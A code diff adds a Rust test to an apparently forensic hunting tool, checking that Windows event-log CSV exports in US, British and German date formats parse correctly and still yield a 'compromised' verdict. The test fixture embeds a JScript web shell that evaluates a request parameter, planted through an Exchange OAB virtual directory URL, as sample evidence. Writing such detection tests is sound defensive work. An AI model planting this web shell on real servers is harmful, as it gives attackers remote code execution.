@@ -1444,3 +1444,80 @@ fn files_naming_no_host_are_named_by_the_host_option() {
     assert_eq!(report["verdicts"][0]["host"], "EX9");
     assert_eq!(report["verdicts"][0]["verdict"], "compromised");
 }
+
+/// `Get-WinEvent | Export-Csv` writes `TimeCreated` in the culture's short format, local time:
+/// every row was "unreadable timestamp" and the export's web shell cmdlet went unseen. The
+/// United States' `M/d/yyyy h:mm:ss tt`, Britain's `dd/MM/yyyy HH:mm:ss` and Germany's
+/// `dd.MM.yyyy HH:mm:ss` are read with `--tz`; `--date-order` says the order when it is not the
+/// culture's, and a date impossible in the order read is malformed with why.
+#[test]
+fn an_event_export_in_a_cultures_date_format_is_read() {
+    let header = "\u{feff}\"TimeCreated\",\"Id\",\"LevelDisplayName\",\"ProviderName\",\"LogName\",\"MachineName\",\"Message\"";
+    let row = |time: &str, message: &str| {
+        format!(
+            "\"{time}\",\"1\",\"Information\",\"MSExchange CmdletLogs\",\"MSExchange Management\",\"EXCH5.corp.example.org\",\"{message}\""
+        )
+    };
+    let shell = "Cmdlet succeeded. Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl \"\"http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"zz9\"\"],\"\"unsafe\"\");}</script>\"\" -Identity \"\"OAB (Default Web Site)\"\".";
+    let quiet = "Cmdlet succeeded. Cmdlet Get-Mailbox, parameters -ResultSize \"\"1\"\".";
+    for (name, shell_at, quiet_at, order) in [
+        ("us", "3/5/2021 6:42:27 PM", "3/13/2021 9:05:00 AM", None),
+        ("gb", "05/03/2021 18:42:27", "13/03/2021 09:05:00", None),
+        ("de", "05.03.2021 18:42:27", "13.03.2021 09:05:00", None),
+        (
+            "us-24h",
+            "03/05/2021 18:42:27",
+            "03/13/2021 09:05:00",
+            Some("mdy"),
+        ),
+    ] {
+        let dir = tempfile::tempdir().unwrap();
+        let evidence = dir.path().join("EXCH5");
+        std::fs::create_dir_all(&evidence).unwrap();
+        let text = [
+            header.to_string(),
+            row(shell_at, shell),
+            row(quiet_at, quiet),
+        ]
+        .join("\r\n");
+        std::fs::write(evidence.join("mgmt.csv"), text + "\r\n").unwrap();
+        let case = dir.path().join("case");
+        let mut args = vec![
+            "ingest",
+            "--quiet",
+            "--tz",
+            "+01:00",
+            "--case",
+            path_str(&case),
+        ];
+        if let Some(order) = order {
+            args.extend(["--date-order", order]);
+        }
+        args.push(path_str(dir.path()));
+        let summary = ok(&args);
+        assert!(
+            summary.contains("2 new events, 0 malformed"),
+            "{name}: {summary}"
+        );
+        assert!(
+            summary.contains("read as +01:00 (--tz)"),
+            "{name}: {summary}"
+        );
+        let rows = common::exported(&case, "*");
+        assert_eq!(rows[0]["ts"], "2021-03-05T17:42:27.000Z", "{name}");
+        assert_eq!(rows[1]["ts"], "2021-03-13T08:05:00.000Z", "{name}");
+        let report = common::hunt_json(&case);
+        assert_eq!(report["verdicts"][0]["verdict"], "compromised", "{name}");
+    }
+    // Read in the other order, the 13th month is no date: malformed, with how to read it.
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(
+        dir.path().join("mgmt.csv"),
+        [header.to_string(), row("03/13/2021 09:05:00", quiet)].join("\r\n") + "\r\n",
+    )
+    .unwrap();
+    let case = dir.path().join("case");
+    let summary = common::ingest(&case, dir.path());
+    assert!(summary.contains("0 new events, 1 malformed"), "{summary}");
+    assert!(summary.contains("--date-order dmy or mdy"), "{summary}");
+}
